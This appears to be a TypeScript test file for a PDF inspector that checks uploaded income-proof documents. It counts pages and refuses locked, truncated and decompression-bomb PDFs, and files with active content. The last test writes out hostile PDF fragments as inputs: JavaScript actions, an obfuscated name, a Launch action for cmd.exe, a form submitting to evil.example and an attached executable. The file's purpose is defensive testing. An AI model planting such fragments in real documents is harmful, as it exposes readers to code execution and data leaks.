import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { PDF_PAGES_MAX } from '@pahiram/domain/loans/income-proof';
import { paperPdf } from '../../test/income-proof.ts';
import { inspectPdf } from './inspect-pdf.ts';

/** A PDF whose objects are packed, as bank statements are. */
function packedPdf(objects: string): Buffer {
  const packed = deflateSync(Buffer.from(objects, 'latin1'));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 3 /First 20 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      'latin1',
    ),
    packed,
    Buffer.from(
      '\nendstream\nendobj\n2 0 obj\n<< /Type /XRef >>\nstream\n\nendstream\nendobj\nstartxref\n9\n%%EOF\n',
      'latin1',
    ),
  ]);
}

const resultOf = async (bytes: Uint8Array) => {
  const result = await inspectPdf(bytes);
  return result.ok ? result.pages : result.fault;
};

describe('reading a PDF without drawing it', () => {
  test('[D1] pages are counted, also in packed objects', async () => {
    assert.equal(await resultOf(await paperPdf(3)), 3);
    assert.equal(await resultOf(await paperPdf(PDF_PAGES_MAX)), PDF_PAGES_MAX);
    assert.equal(await resultOf(await paperPdf(PDF_PAGES_MAX + 1)), 'pdf-too-long');
    const two = '<< /Type /Pages /Count 2 >> << /Type /Page >> << /Type/Page >>';
    assert.equal(await resultOf(packedPdf(two)), 2);
  });

  test('[V25] a PDF with a password is refused', async () => {
    const locked = await paperPdf(1, { userPassword: 'secret', pdfVersion: '1.7' });
    assert.equal(await resultOf(locked), 'pdf-has-password');
  });

  test('[V29] a PDF that is cut short, empty inside or unpacks to very much is refused', async () => {
    const whole = await paperPdf(2);
    assert.equal(await resultOf(whole.subarray(0, whole.length / 2)), 'pdf-not-readable');
    assert.equal(await resultOf(Buffer.from('%PDF-1.7')), 'pdf-not-readable');
    assert.equal(await resultOf(Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF')), 'pdf-not-readable');
    const bomb = packedPdf(`<< /Type /Page >>${' '.repeat(17 * 1024 * 1024)}`);
    assert.ok(bomb.length < 100_000);
    assert.equal(await resultOf(bomb), 'pdf-not-readable');
  });

  test('[V25] a PDF with a program, a form that sends or other files inside is refused, however its names are written', async () => {
    const page = '<< /Type /Page >>';
    for (const part of [
      '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
      '/A << /S /JavaScri#70t >>',
      '/A << /S /Launch /F (cmd.exe) >>',
      '/Names << /EmbeddedFiles 4 0 R >>',
      '/AcroForm << /XFA 5 0 R >>',
      '/A << /S /SubmitForm /F (http://evil.example) >>',
    ]) {
      assert.equal(await resultOf(packedPdf(`${page} << ${part} >>`)), 'pdf-is-active', part);
    }
    const attached = await paperPdf(1, {}, (document) => {
      document.file(Buffer.from('MZ'), { name: 'run.exe' });
    });
    assert.equal(await resultOf(attached), 'pdf-is-active');
    // The same letters in a page's drawing are no program.
    const drawn = await paperPdf(1, { compress: false }, (document) => {
      document.addContent('% /JS /Launch');
    });
    assert.equal(await resultOf(drawn), 1);
  });
});
